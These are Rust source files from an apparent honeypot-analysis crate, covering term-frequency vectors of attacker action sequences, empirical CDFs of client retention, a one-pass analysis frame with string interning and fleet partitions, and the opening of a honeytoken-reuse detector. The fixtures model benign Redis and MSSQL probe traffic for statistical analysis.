    fn terms(v: &[&str]) -> Vec<String> {
        v.iter().map(|s| s.to_string()).collect()
    }

    #[test]
    fn tf_matches_paper_definition() {
        let mut vocab = Vocabulary::new();
        // document: [SET, SET, GET] → tf(SET)=2/3, tf(GET)=1/3
        let v = TfVector::from_terms(&terms(&["SET", "SET", "GET"]), &mut vocab);
        assert_eq!(v.total_terms, 3);
        assert!((v.values[vocab.get("SET").unwrap()] - 2.0 / 3.0).abs() < 1e-12);
        assert!((v.values[vocab.get("GET").unwrap()] - 1.0 / 3.0).abs() < 1e-12);
    }

    #[test]
    fn empty_document_is_zero_vector() {
        let mut vocab = Vocabulary::new();
        vocab.intern("SET");
        let v = TfVector::from_terms(&[], &mut vocab);
        assert_eq!(v.total_terms, 0);
        assert!(v.values.iter().all(|&x| x == 0.0));
    }

    #[test]
    fn distances_tolerate_vocabulary_growth() {
        let mut vocab = Vocabulary::new();
        let a = TfVector::from_terms(&terms(&["SET"]), &mut vocab);
        let b = TfVector::from_terms(&terms(&["GET"]), &mut vocab);
        // a was built before GET existed: len 1 vs len 2
        assert_eq!(a.values.len(), 1);
        assert_eq!(b.values.len(), 2);
        assert!((a.distance_sq(&b) - 2.0).abs() < 1e-12);
        assert!((a.distance(&b) - 2.0_f64.sqrt()).abs() < 1e-12);
        // identical documents are at distance zero regardless of when built
        let a2 = TfVector::from_terms(&terms(&["SET"]), &mut vocab);
        assert_eq!(a.distance_sq(&a2), 0.0);
    }

    #[test]
    fn hash_variant_sequences_vectorize_identically() {
        // The motivating example of §6.1: DELETE /tmp/hash1 vs hash2 —
        // after masking both are the same term, so TF vectors coincide.
        let mut vocab = Vocabulary::new();
        let doc1 = terms(&["DELETE /tmp/<HASH>", "LOGIN"]);
        let doc2 = terms(&["DELETE /tmp/<HASH>", "LOGIN"]);
        let v1 = TfVector::from_terms(&doc1, &mut vocab);
        let v2 = TfVector::from_terms(&doc2, &mut vocab);
        assert_eq!(v1.distance_sq(&v2), 0.0);
    }

    #[test]
    fn vocabulary_intern_is_idempotent() {
        let mut vocab = Vocabulary::new();
        let a = vocab.intern("INFO");
        let b = vocab.intern("INFO");
        assert_eq!(a, b);
        assert_eq!(vocab.len(), 1);
        assert_eq!(vocab.term(0), Some("INFO"));
        assert_eq!(vocab.term(1), None);
        assert!(!vocab.is_empty());
    }

    #[test]
    fn sequences_from_store() {
        use decoy_net::time::EXPERIMENT_START;
        use decoy_store::{ConfigVariant, Event, HoneypotId, InteractionLevel};
        let store = EventStore::new();
        let src: IpAddr = "192.0.2.10".parse().unwrap();
        let hp = HoneypotId::new(
            Dbms::Redis,
            InteractionLevel::Medium,
            ConfigVariant::Default,
            0,
        );
        for kind in [
            EventKind::Connect,
            EventKind::LoginAttempt {
                username: "u".into(),
                password: "p".into(),
                success: false,
            },
            EventKind::Command {
                action: "KEYS *".into(),
                raw: "KEYS *".into(),
            },
            EventKind::Disconnect,
        ] {
            store.log(Event {
                ts: EXPERIMENT_START,
                honeypot: hp,
                src,
                session: 1,
                kind,
            });
        }
        let docs = action_sequences(&store, Some(Dbms::Redis));
        assert_eq!(docs[&src], terms(&["LOGIN", "KEYS *"]));
        let (sources, vectors, vocab) = vectorize(&docs);
        assert_eq!(sources, vec![src]);
        assert_eq!(vectors.len(), 1);
        assert_eq!(vocab.len(), 2);

        // the frame path yields the same documents and vectors
        let frame = crate::frame::AnalysisFrame::build(&store, &decoy_geo::GeoDb::builtin());
        let view_docs =
            action_sequences_view(frame.view(crate::frame::Partition::All), Some(Dbms::Redis));
        assert_eq!(view_docs.len(), docs.len());
        for (ip, doc) in &docs {
            let view_doc: Vec<&str> = view_docs[ip].iter().map(|t| t.as_ref()).collect();
            let legacy_doc: Vec<&str> = doc.iter().map(String::as_str).collect();
            assert_eq!(view_doc, legacy_doc);
        }
        let (view_sources, view_vectors, view_vocab) = vectorize(&view_docs);
        assert_eq!(view_sources, sources);
        assert_eq!(view_vectors, vectors);
        assert_eq!(view_vocab.len(), vocab.len());
    }
}
