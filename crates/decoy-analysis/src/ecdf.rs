//! Empirical cumulative distribution functions.
//!
//! Used for the client-retention CDFs of Figure 3 (low-interaction, by
//! DBMS) and Figure 5 (medium/high, by behavior class): "retention" is the
//! number of distinct days a source was observed on during the experiment.

use decoy_net::time::Timestamp;
use decoy_store::{Dbms, EventStore};
use std::collections::{BTreeMap, BTreeSet};
use std::net::IpAddr;

/// An empirical CDF over `f64` samples.
#[derive(Debug, Clone)]
pub struct Ecdf {
    sorted: Vec<f64>,
}

impl Ecdf {
    /// Build from samples (NaNs are dropped).
    pub fn new(mut samples: Vec<f64>) -> Self {
        samples.retain(|x| !x.is_nan());
        samples.sort_by(|a, b| a.partial_cmp(b).expect("no NaNs remain"));
        Ecdf { sorted: samples }
    }

    /// Number of samples.
    pub fn len(&self) -> usize {
        self.sorted.len()
    }

    /// True when there are no samples.
    pub fn is_empty(&self) -> bool {
        self.sorted.is_empty()
    }

    /// `P(X <= x)`.
    pub fn eval(&self, x: f64) -> f64 {
        if self.sorted.is_empty() {
            return 0.0;
        }
        let count = self.sorted.partition_point(|&v| v <= x);
        count as f64 / self.sorted.len() as f64
    }

    /// The `q`-quantile (`0.0..=1.0`), by the nearest-rank method.
    pub fn quantile(&self, q: f64) -> Option<f64> {
        if self.sorted.is_empty() {
            return None;
        }
        let q = q.clamp(0.0, 1.0);
        let rank = ((q * self.sorted.len() as f64).ceil() as usize).max(1) - 1;
        Some(self.sorted[rank.min(self.sorted.len() - 1)])
    }

    /// Mean of the samples.
    pub fn mean(&self) -> Option<f64> {
        if self.sorted.is_empty() {
            return None;
        }
        Some(self.sorted.iter().sum::<f64>() / self.sorted.len() as f64)
    }

    /// The step points `(x, P(X<=x))` for plotting.
    pub fn points(&self) -> Vec<(f64, f64)> {
        let n = self.sorted.len() as f64;
        let mut out: Vec<(f64, f64)> = Vec::new();
        for (i, &x) in self.sorted.iter().enumerate() {
            let y = (i + 1) as f64 / n;
            match out.last_mut() {
                Some(last) if last.0 == x => last.1 = y,
                _ => out.push((x, y)),
            }
        }
        out
    }
}

/// Distinct active days per source on honeypots of `dbms` (all when `None`),
/// relative to `origin` — the retention metric of Figures 3 and 5.
pub fn retention_days(
    store: &EventStore,
    dbms: Option<Dbms>,
    origin: Timestamp,
) -> BTreeMap<IpAddr, usize> {
    let events = match dbms {
        Some(d) => store.by_dbms(d),
        None => store.all(),
    };
    let mut days: BTreeMap<IpAddr, BTreeSet<u64>> = BTreeMap::new();
    for event in &events {
        days.entry(event.src)
            .or_default()
            .insert(event.ts.days_since(origin));
    }
    days.into_iter().map(|(ip, d)| (ip, d.len())).collect()
}

/// Frame counterpart of [`retention_days`]: the same metric computed from a
/// [`FrameView`](crate::frame::FrameView) without cloning events.
pub fn retention_days_view(
    view: crate::frame::FrameView<'_>,
    dbms: Option<Dbms>,
    origin: Timestamp,
) -> BTreeMap<IpAddr, usize> {
    let mut days: BTreeMap<IpAddr, BTreeSet<u64>> = BTreeMap::new();
    for event in view.events_of(dbms) {
        days.entry(event.src)
            .or_default()
            .insert(event.ts.days_since(origin));
    }
    days.into_iter().map(|(ip, d)| (ip, d.len())).collect()
}

/// Fraction of sources active on exactly one day (the paper's "43% of all
/// clients hitting our infrastructure only on a single day").
pub fn single_day_fraction(retention: &BTreeMap<IpAddr, usize>) -> f64 {
    if retention.is_empty() {
        return 0.0;
    }
    let single = retention.values().filter(|&&d| d == 1).count();
    single as f64 / retention.len() as f64
}

#[cfg(test)]
mod tests {
    use super::*;
    use decoy_net::time::{EXPERIMENT_START, MILLIS_PER_DAY};
    use decoy_store::{ConfigVariant, Event, EventKind, HoneypotId, InteractionLevel};

    #[test]
    fn ecdf_basic_math() {
        let e = Ecdf::new(vec![1.0, 2.0, 2.0, 4.0]);
        assert_eq!(e.len(), 4);
        assert_eq!(e.eval(0.5), 0.0);
        assert_eq!(e.eval(1.0), 0.25);
        assert_eq!(e.eval(2.0), 0.75);
        assert_eq!(e.eval(100.0), 1.0);
        assert_eq!(e.mean(), Some(2.25));
        assert_eq!(e.quantile(0.5), Some(2.0));
        assert_eq!(e.quantile(1.0), Some(4.0));
        assert_eq!(e.quantile(0.0), Some(1.0));
    }

    #[test]
    fn ecdf_empty_and_nan() {
        let e = Ecdf::new(vec![]);
        assert!(e.is_empty());
        assert_eq!(e.eval(1.0), 0.0);
        assert_eq!(e.quantile(0.5), None);
        assert_eq!(e.mean(), None);
        let e = Ecdf::new(vec![f64::NAN, 1.0]);
        assert_eq!(e.len(), 1);
    }

    #[test]
    fn points_deduplicate_steps() {
        let e = Ecdf::new(vec![1.0, 1.0, 2.0]);
        assert_eq!(e.points(), vec![(1.0, 2.0 / 3.0), (2.0, 1.0)]);
    }

    #[test]
    fn retention_counts_distinct_days() {
        let store = EventStore::new();
        let hp = HoneypotId::new(
            Dbms::Mssql,
            InteractionLevel::Low,
            ConfigVariant::MultiService,
            0,
        );
        let src: IpAddr = "192.0.2.1".parse().unwrap();
        // three events on day 0 (still one day), one on day 5
        for offset in [0u64, 1000, 2000, 5 * MILLIS_PER_DAY] {
            store.log(Event {
                ts: EXPERIMENT_START.add_millis(offset),
                honeypot: hp,
                src,
                session: 1,
                kind: EventKind::Connect,
            });
        }
        let once: IpAddr = "192.0.2.2".parse().unwrap();
        store.log(Event {
            ts: EXPERIMENT_START,
            honeypot: hp,
            src: once,
            session: 1,
            kind: EventKind::Connect,
        });
        let r = retention_days(&store, Some(Dbms::Mssql), EXPERIMENT_START);
        assert_eq!(r[&src], 2);
        assert_eq!(r[&once], 1);
        assert_eq!(single_day_fraction(&r), 0.5);
        // empty case
        assert_eq!(single_day_fraction(&BTreeMap::new()), 0.0);

        // the frame path computes the same retention map
        let frame = crate::frame::AnalysisFrame::build(&store, &decoy_geo::GeoDb::builtin());
        let view = frame.view(crate::frame::Partition::All);
        assert_eq!(
            retention_days_view(view, Some(Dbms::Mssql), EXPERIMENT_START),
            r
        );
        assert_eq!(
            retention_days_view(view, None, EXPERIMENT_START),
            retention_days(&store, None, EXPERIMENT_START)
        );
    }
}
