//! The materialized analysis frame — built exactly once per [`EventStore`].
//!
//! The paper's pipeline is one normalization/enrichment pass feeding many
//! downstream consumers (§4, Figure 1). [`AnalysisFrame`] is that pass made
//! explicit: a single zero-clone scan of the store that
//!
//! * groups events into sessions keyed by `(HoneypotId, SessionKey)`,
//! * partitions the fleet into the low-interaction and medium/high slices
//!   every table and figure works over,
//! * enriches each distinct source IP exactly once through a caching
//!   [`GeoEnricher`], and
//! * interns every action/credential string into a shared `Arc<str>` pool so
//!   the ~18 report sections share references instead of cloning payloads.
//!
//! Downstream modules consume [`FrameView`]s (cheap `Copy` handles onto one
//! partition) and must produce byte-identical tables to the legacy
//! store-scanning paths for the same `(seed, scale)`.

use decoy_geo::{GeoDb, GeoEnricher, IpMeta};
use decoy_net::time::Timestamp;
use decoy_store::{Dbms, Event, EventKind, EventStore, HoneypotId, SessionKey};
use std::collections::{HashMap, HashSet};
use std::net::IpAddr;
use std::sync::Arc;

/// A deduplicating `Arc<str>` pool: equal strings share one allocation.
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub struct Interner {
    pool: HashSet<Arc<str>>,
}

impl Interner {
    /// An empty pool.
    pub fn new() -> Self {
        Interner::default()
    }

    /// Union another pool into this one (the merge half of the fold).
    ///
    /// Strings present in both pools keep this pool's allocation; the
    /// distinct-string count after absorbing is exactly the count a single
    /// interner would have reached over the concatenated input.
    pub(crate) fn absorb(&mut self, other: Interner) {
        for s in other.pool {
            self.pool.insert(s);
        }
    }

    /// The shared `Arc<str>` for `s`, allocating only on first sight.
    pub fn intern(&mut self, s: &str) -> Arc<str> {
        if let Some(existing) = self.pool.get(s) {
            return Arc::clone(existing);
        }
        let arc: Arc<str> = Arc::from(s);
        self.pool.insert(Arc::clone(&arc));
        arc
    }

    /// Number of distinct strings interned.
    pub fn len(&self) -> usize {
        self.pool.len()
    }

    /// True when nothing has been interned.
    pub fn is_empty(&self) -> bool {
        self.pool.is_empty()
    }
}

/// [`EventKind`] with every owned `String` replaced by an interned
/// `Arc<str>` shared across the frame.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum FrameKind {
    /// TCP connection accepted.
    Connect,
    /// Connection ended (by either side).
    Disconnect,
    /// An authentication attempt with the captured credentials.
    LoginAttempt {
        /// Username as typed.
        username: Arc<str>,
        /// Password as observed.
        password: Arc<str>,
        /// Whether the honeypot granted access.
        success: bool,
    },
    /// A command/query executed against the emulated DBMS.
    Command {
        /// Normalized action token (§6.1 masking applied).
        action: Arc<str>,
        /// The raw rendered command, verbatim.
        raw: Arc<str>,
    },
    /// An opaque payload that did not parse as the DBMS protocol.
    Payload {
        /// Captured byte count.
        len: usize,
        /// Recognized foreign protocol label, if any.
        recognized: Option<Arc<str>>,
        /// Lossy text rendering for the logs.
        preview: Arc<str>,
    },
    /// Input that violated the protocol grammar.
    Malformed {
        /// Human-readable description.
        detail: Arc<str>,
    },
    /// Fleet-health transition (operational telemetry, not attacker traffic).
    Health {
        /// Supervisor state label ("healthy" / "degraded" / "down").
        state: Arc<str>,
        /// Lifetime restart count for the listener.
        restarts: u32,
        /// Human-readable transition reason.
        detail: Arc<str>,
    },
}

impl FrameKind {
    /// Intern one store event kind.
    pub(crate) fn from_kind(kind: &EventKind, interner: &mut Interner) -> FrameKind {
        match kind {
            EventKind::Connect => FrameKind::Connect,
            EventKind::Disconnect => FrameKind::Disconnect,
            EventKind::LoginAttempt {
                username,
                password,
                success,
            } => FrameKind::LoginAttempt {
                username: interner.intern(username),
                password: interner.intern(password),
                success: *success,
            },
            EventKind::Command { action, raw } => FrameKind::Command {
                action: interner.intern(action),
                raw: interner.intern(raw),
            },
            EventKind::Payload {
                len,
                recognized,
                preview,
            } => FrameKind::Payload {
                len: *len,
                recognized: recognized.as_deref().map(|r| interner.intern(r)),
                preview: interner.intern(preview),
            },
            EventKind::Malformed { detail } => FrameKind::Malformed {
                detail: interner.intern(detail),
            },
            EventKind::Health {
                state,
                restarts,
                detail,
            } => FrameKind::Health {
                state: interner.intern(state.label()),
                restarts: *restarts,
                detail: interner.intern(detail),
            },
        }
    }

    /// True for kinds that constitute meaningful interaction (§4.3) —
    /// mirrors [`EventKind::is_interactive`].
    pub fn is_interactive(&self) -> bool {
        !matches!(
            self,
            FrameKind::Connect | FrameKind::Disconnect | FrameKind::Health { .. }
        )
    }
}

/// One interned log record (mirrors [`decoy_store::Event`]).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FrameEvent {
    /// When it happened.
    pub ts: Timestamp,
    /// Which honeypot logged it.
    pub honeypot: HoneypotId,
    /// Source address.
    pub src: IpAddr,
    /// Per-honeypot session sequence number.
    pub session: u64,
    /// What happened, with interned strings.
    pub kind: FrameKind,
}

/// The fleet slices the paper's tables are computed over.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Partition {
    /// Every event.
    All,
    /// Low-interaction fleet only (§5's scanning/brute-force analysis).
    Low,
    /// Medium- and high-interaction fleet (§6's behavioral analysis).
    MedHigh,
}

/// The one-pass materialized view of an [`EventStore`].
#[derive(Debug, PartialEq)]
pub struct AnalysisFrame {
    events: Vec<FrameEvent>,
    low: Vec<usize>,
    med_high: Vec<usize>,
    sessions: HashMap<(HoneypotId, SessionKey), Vec<usize>>,
    meta: HashMap<IpAddr, Option<Arc<IpMeta>>>,
    interned_strings: usize,
    health: Vec<Event>,
}

impl AnalysisFrame {
    /// Build the frame with a fresh [`GeoEnricher`] over `geo`.
    pub fn build(store: &EventStore, geo: &Arc<GeoDb>) -> Self {
        AnalysisFrame::build_with(store, &GeoEnricher::new(Arc::clone(geo)))
    }

    /// Build the frame, enriching through an existing (possibly pre-warmed)
    /// cache.
    ///
    /// Internally this is "fold one [`PartialFrame`](crate::fold::PartialFrame),
    /// seal" — the same code path the streaming/segment fold uses, so batch
    /// and incremental construction cannot drift apart.
    pub fn build_with(store: &EventStore, enricher: &GeoEnricher) -> Self {
        store.read(|events| {
            let mut partial = crate::fold::PartialFrame::new(0);
            for event in events.iter() {
                partial.push(event, enricher);
            }
            partial.seal()
        })
    }

    /// Assemble a frame from already-folded parts (the seal step of
    /// [`PartialFrame`](crate::fold::PartialFrame)).
    pub(crate) fn from_parts(
        events: Vec<FrameEvent>,
        low: Vec<usize>,
        med_high: Vec<usize>,
        sessions: HashMap<(HoneypotId, SessionKey), Vec<usize>>,
        meta: HashMap<IpAddr, Option<Arc<IpMeta>>>,
        interned_strings: usize,
        health: Vec<Event>,
    ) -> Self {
        AnalysisFrame {
            events,
            low,
            med_high,
            sessions,
            meta,
            interned_strings,
            health,
        }
    }

    /// All events in log order.
    pub fn events(&self) -> &[FrameEvent] {
        &self.events
    }

    /// Total number of events.
    pub fn len(&self) -> usize {
        self.events.len()
    }

    /// True when the frame holds no events.
    pub fn is_empty(&self) -> bool {
        self.events.is_empty()
    }

    /// A cheap `Copy` handle onto one fleet slice.
    pub fn view(&self, partition: Partition) -> FrameView<'_> {
        FrameView {
            frame: self,
            partition,
        }
    }

    /// Number of distinct `(honeypot, session)` groups.
    pub fn session_count(&self) -> usize {
        self.sessions.len()
    }

    /// All session keys, unordered.
    pub fn session_keys(&self) -> impl Iterator<Item = &(HoneypotId, SessionKey)> {
        self.sessions.keys()
    }

    /// Events of one session, in log order.
    pub fn session_events(&self, honeypot: HoneypotId, key: SessionKey) -> Vec<&FrameEvent> {
        self.sessions
            .get(&(honeypot, key))
            .map(|idxs| idxs.iter().map(|&i| &self.events[i]).collect())
            .unwrap_or_default()
    }

    /// The memoized enrichment of `ip` (computed once at build time).
    pub fn meta(&self, ip: IpAddr) -> Option<&Arc<IpMeta>> {
        self.meta.get(&ip).and_then(|m| m.as_ref())
    }

    /// Country code of `ip`, `"??"` when unmapped (table convention).
    pub fn country(&self, ip: IpAddr) -> &str {
        self.meta(ip).map(|m| m.country.as_str()).unwrap_or("??")
    }

    /// Number of distinct source IPs observed (enrichment cache size).
    pub fn distinct_sources(&self) -> usize {
        self.meta.len()
    }

    /// Number of distinct strings in the `Arc<str>` pool.
    pub fn interned_strings(&self) -> usize {
        self.interned_strings
    }

    /// Fleet-health telemetry in log order.
    ///
    /// Supervisor transitions are not attacker traffic: they carry a zero
    /// source/session and are kept out of the session, geo, and partition
    /// aggregations above. The fleet-uptime table folds these instead, so a
    /// streamed frame can render the fleet section without an
    /// [`EventStore`].
    pub fn health_events(&self) -> &[Event] {
        &self.health
    }
}

/// Iterator over one partition's events in log order.
#[derive(Debug, Clone)]
pub enum FrameIter<'a> {
    /// The full event slice.
    Slice(std::slice::Iter<'a, FrameEvent>),
    /// An index vector into the event slice.
    Index {
        /// The backing events.
        events: &'a [FrameEvent],
        /// Ascending indices of the partition.
        idxs: std::slice::Iter<'a, usize>,
    },
}

impl<'a> Iterator for FrameIter<'a> {
    type Item = &'a FrameEvent;

    fn next(&mut self) -> Option<&'a FrameEvent> {
        match self {
            FrameIter::Slice(it) => it.next(),
            FrameIter::Index { events, idxs } => idxs.next().map(|&i| &events[i]),
        }
    }

    fn size_hint(&self) -> (usize, Option<usize>) {
        match self {
            FrameIter::Slice(it) => it.size_hint(),
            FrameIter::Index { idxs, .. } => idxs.size_hint(),
        }
    }
}

impl ExactSizeIterator for FrameIter<'_> {}

/// A borrowed handle onto one partition of an [`AnalysisFrame`].
#[derive(Debug, Clone, Copy)]
pub struct FrameView<'a> {
    frame: &'a AnalysisFrame,
    partition: Partition,
}

impl<'a> FrameView<'a> {
    /// The underlying frame.
    pub fn frame(self) -> &'a AnalysisFrame {
        self.frame
    }

    /// Which slice this view covers.
    pub fn partition(self) -> Partition {
        self.partition
    }

    /// This partition's events in log order.
    pub fn events(self) -> FrameIter<'a> {
        match self.partition {
            Partition::All => FrameIter::Slice(self.frame.events.iter()),
            Partition::Low => FrameIter::Index {
                events: &self.frame.events,
                idxs: self.frame.low.iter(),
            },
            Partition::MedHigh => FrameIter::Index {
                events: &self.frame.events,
                idxs: self.frame.med_high.iter(),
            },
        }
    }

    /// This partition's events, optionally restricted to one DBMS family —
    /// the frame counterpart of `by_dbms(d)` / `all()` dispatch.
    pub fn events_of(self, dbms: Option<Dbms>) -> impl Iterator<Item = &'a FrameEvent> {
        self.events()
            .filter(move |e| dbms.map(|d| e.honeypot.dbms == d).unwrap_or(true))
    }

    /// Number of events in this partition.
    pub fn len(self) -> usize {
        match self.partition {
            Partition::All => self.frame.events.len(),
            Partition::Low => self.frame.low.len(),
            Partition::MedHigh => self.frame.med_high.len(),
        }
    }

    /// True when the partition holds no events.
    pub fn is_empty(self) -> bool {
        self.len() == 0
    }

    /// The memoized enrichment of `ip`.
    pub fn meta(self, ip: IpAddr) -> Option<&'a Arc<IpMeta>> {
        self.frame.meta(ip)
    }

    /// Country code of `ip`, `"??"` when unmapped.
    pub fn country(self, ip: IpAddr) -> &'a str {
        self.frame.country(ip)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use decoy_net::time::EXPERIMENT_START;
    use decoy_store::{ConfigVariant, InteractionLevel};
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    fn hp(dbms: Dbms, level: InteractionLevel) -> HoneypotId {
        HoneypotId::new(dbms, level, ConfigVariant::Default, 0)
    }

    fn cmd(action: &str) -> EventKind {
        EventKind::Command {
            action: action.into(),
            raw: action.into(),
        }
    }

    fn fixture() -> (Arc<EventStore>, Arc<GeoDb>, IpAddr, IpAddr) {
        let geo = GeoDb::builtin();
        let mut rng = StdRng::seed_from_u64(11);
        let mapped = IpAddr::V4(geo.sample_ip(4134, Some("CN"), &mut rng).unwrap());
        let unmapped: IpAddr = "203.0.113.50".parse().unwrap();
        let store = EventStore::new();
        let log = |honeypot, src: IpAddr, session: u64, kind| {
            store.log(Event {
                ts: EXPERIMENT_START,
                honeypot,
                src,
                session,
                kind,
            })
        };
        log(
            hp(Dbms::Mssql, InteractionLevel::Low),
            mapped,
            1,
            EventKind::Connect,
        );
        log(
            hp(Dbms::Mssql, InteractionLevel::Low),
            mapped,
            1,
            EventKind::LoginAttempt {
                username: "sa".into(),
                password: "123".into(),
                success: false,
            },
        );
        log(
            hp(Dbms::Redis, InteractionLevel::Medium),
            mapped,
            2,
            cmd("INFO server"),
        );
        log(
            hp(Dbms::Redis, InteractionLevel::Medium),
            unmapped,
            1,
            cmd("INFO server"),
        );
        log(
            hp(Dbms::Postgres, InteractionLevel::High),
            unmapped,
            1,
            EventKind::Disconnect,
        );
        (store, geo, mapped, unmapped)
    }

    #[test]
    fn interner_shares_allocations() {
        let mut interner = Interner::new();
        let a = interner.intern("INFO server");
        let b = interner.intern("INFO server");
        let c = interner.intern("KEYS *");
        assert!(Arc::ptr_eq(&a, &b));
        assert!(!Arc::ptr_eq(&a, &c));
        assert_eq!(interner.len(), 2);
        assert!(!interner.is_empty());
    }

    #[test]
    fn build_partitions_and_sessions() {
        let (store, geo, mapped, unmapped) = fixture();
        let frame = AnalysisFrame::build(&store, &geo);
        assert_eq!(frame.len(), 5);
        assert!(!frame.is_empty());
        assert_eq!(frame.view(Partition::Low).len(), 2);
        assert_eq!(frame.view(Partition::MedHigh).len(), 3);
        assert_eq!(
            frame.view(Partition::Low).len() + frame.view(Partition::MedHigh).len(),
            frame.view(Partition::All).len()
        );
        // sessions: (mssql, mapped, 1), (redis-med, mapped, 2),
        // (redis-med, unmapped, 1), (pg-high, unmapped, 1)
        assert_eq!(frame.session_count(), 4);
        assert_eq!(frame.session_count(), store.session_count());
        let events = frame.session_events(
            hp(Dbms::Mssql, InteractionLevel::Low),
            SessionKey {
                src: mapped,
                session: 1,
            },
        );
        assert_eq!(events.len(), 2);
        assert!(matches!(events[0].kind, FrameKind::Connect));
        assert!(matches!(events[1].kind, FrameKind::LoginAttempt { .. }));
        assert!(frame
            .session_events(
                hp(Dbms::Mssql, InteractionLevel::Low),
                SessionKey {
                    src: unmapped,
                    session: 9,
                },
            )
            .is_empty());
        assert_eq!(frame.session_keys().count(), 4);
    }

    #[test]
    fn enrichment_is_memoized_and_matches_geo() {
        let (store, geo, mapped, unmapped) = fixture();
        let frame = AnalysisFrame::build(&store, &geo);
        assert_eq!(frame.distinct_sources(), 2);
        let meta = frame.meta(mapped).expect("mapped source enriched");
        assert_eq!(meta.asn, 4134);
        assert_eq!(frame.country(mapped), geo.lookup(mapped).unwrap().country);
        assert!(frame.meta(unmapped).is_none());
        assert_eq!(frame.country(unmapped), "??");
        // unknown IP: not in frame at all
        assert!(frame.meta("198.51.100.99".parse().unwrap()).is_none());
    }

    #[test]
    fn identical_strings_are_interned_once() {
        let (store, geo, mapped, unmapped) = fixture();
        let frame = AnalysisFrame::build(&store, &geo);
        // "INFO server" appears twice (from two different sources) but is
        // one allocation.
        let actions: Vec<&Arc<str>> = frame
            .events()
            .iter()
            .filter_map(|e| match &e.kind {
                FrameKind::Command { action, .. } => Some(action),
                _ => None,
            })
            .collect();
        assert_eq!(actions.len(), 2);
        assert!(Arc::ptr_eq(actions[0], actions[1]));
        // pool: "sa", "123", "INFO server" (action == raw collapses too)
        assert_eq!(frame.interned_strings(), 3);
        let _ = (mapped, unmapped);
    }

    #[test]
    fn views_filter_by_dbms_in_log_order() {
        let (store, geo, mapped, _) = fixture();
        let frame = AnalysisFrame::build(&store, &geo);
        let mh = frame.view(Partition::MedHigh);
        assert_eq!(mh.partition(), Partition::MedHigh);
        let redis: Vec<&FrameEvent> = mh.events_of(Some(Dbms::Redis)).collect();
        assert_eq!(redis.len(), 2);
        assert_eq!(redis[0].src, mapped);
        assert!(mh.events_of(Some(Dbms::Mssql)).next().is_none());
        let all: Vec<&FrameEvent> = mh.events_of(None).collect();
        assert_eq!(all.len(), 3);
        // iterator agreement with the store's by_dbms path
        let legacy = store.by_dbms(Dbms::Redis);
        assert_eq!(redis.len(), legacy.len());
        for (f, e) in redis.iter().zip(&legacy) {
            assert_eq!(f.src, e.src);
            assert_eq!(f.ts, e.ts);
        }
        assert!(!mh.is_empty());
        assert_eq!(mh.events().len(), 3);
        assert_eq!(mh.frame().len(), 5);
        assert_eq!(mh.meta(mapped).unwrap().asn, 4134);
        assert_eq!(mh.country(mapped), "CN");
    }
}
