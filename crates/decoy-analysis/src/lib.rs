#![warn(missing_docs)]
#![forbid(unsafe_code)]

//! # decoy-analysis
//!
//! The paper's analysis pipeline (§4.3, §5, §6) over the standardized event
//! store:
//!
//! * [`frame`] — the materialized [`AnalysisFrame`](frame::AnalysisFrame):
//!   one zero-clone pass over the store that groups sessions, partitions the
//!   fleet, enriches each source IP once, and interns strings; every module
//!   below also accepts a [`FrameView`](frame::FrameView) so the whole
//!   report shares that single pass.
//! * [`classify`] — the scanning / scouting / exploiting behavior rules.
//! * [`tf`] — per-source action sequences and Term Frequency vectors (§6.1);
//!   the sparse vector/vocabulary types live in [`tfvec`].
//! * [`cluster`] — agglomerative hierarchical clustering with Ward linkage;
//!   the O(n²) nearest-neighbor-chain engine (Lance–Williams recurrence,
//!   condensed matrix, canonical merge order) lives in [`ward`].
//! * [`tagging`] — campaign tags (P2PInfect, ABCbot, Kinsing, Lucifer,
//!   ransom, CVE probes, ...) assigned from recognizable action patterns.
//! * [`ecdf`] — empirical CDFs (client retention, Figures 3 and 5).
//! * [`timeseries`] — hourly activity series (Figures 2, 6–9).
//! * [`upset`] — cross-honeypot IP intersections (Figure 4).
//! * [`tables`] — the aggregations behind Tables 5–12 and the §5/§6
//!   headline statistics.
//! * [`intel`] — synthetic threat-intelligence feeds reproducing the §6.2
//!   coverage-gap measurement.
//! * [`honeytokens`] — bait-credential reuse detection (§4.2's fake-data
//!   objective and the honeytoken tripwire of the related work).
//! * [`detect`] — counter-fingerprinting: recognize the `decoy-fingerprint`
//!   probe battery (or tooling shaped like it) in captured traffic.
//! * [`forensics`] — per-source session reconstruction in the paper's
//!   Appendix E listing style.
//! * [`fleet`] — fleet-uptime rows folded from the supervisor's
//!   [`EventKind::Health`](decoy_store::EventKind) telemetry.
//! * [`fold`] — the incrementally foldable
//!   [`PartialFrame`](fold::PartialFrame): fold per journal segment, merge
//!   associatively across segments or shards, seal into the same
//!   [`AnalysisFrame`](frame::AnalysisFrame) the batch path builds.

pub mod classify;
pub mod cluster;
pub mod detect;
pub mod ecdf;
pub mod fleet;
pub mod fold;
pub mod forensics;
pub mod frame;
pub mod honeytokens;
pub mod intel;
pub mod tables;
pub mod tagging;
pub mod tf;
pub mod tfvec;
pub mod timeseries;
pub mod upset;
pub mod ward;

pub use classify::{classify_sources, classify_view, Behavior, BehaviorProfile};
pub use cluster::{cluster_sources, cluster_view, Dendrogram};
pub use detect::is_fingerprint_probe;
pub use ecdf::Ecdf;
pub use fleet::{fleet_totals, fleet_uptime, fleet_uptime_events, FleetTotals, ListenerUptime};
pub use fold::PartialFrame;
pub use frame::{AnalysisFrame, FrameEvent, FrameKind, FrameView, Partition};
pub use tf::{action_sequences, action_sequences_view, TfVector, Vocabulary};
