//! Honeytoken / bait-data reuse detection.
//!
//! §4.2: "The primary objective is to assess whether adversaries would
//! exhibit any knowledge of the data" planted in the fake-data Redis
//! configuration. This module answers that question from the standardized
//! logs: which sources presented a bait password as a credential, and
//! which read the bait entries beforehand (harvest → reuse). The same
//! machinery implements the honeytoken tripwire idea of Wegerer & Tjoa
//! (§3, related work): any bait credential appearing in an authentication
//! attempt anywhere in the fleet is a high-confidence alarm.

use decoy_store::{EventKind, EventStore};
use std::collections::{BTreeMap, BTreeSet};
use std::net::IpAddr;

/// One source's demonstrated knowledge of the bait data.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct BaitKnowledge {
    /// Bait passwords this source presented as credentials.
    pub reused_passwords: Vec<String>,
    /// Bait keys this source read (`GET user:...`) before reusing.
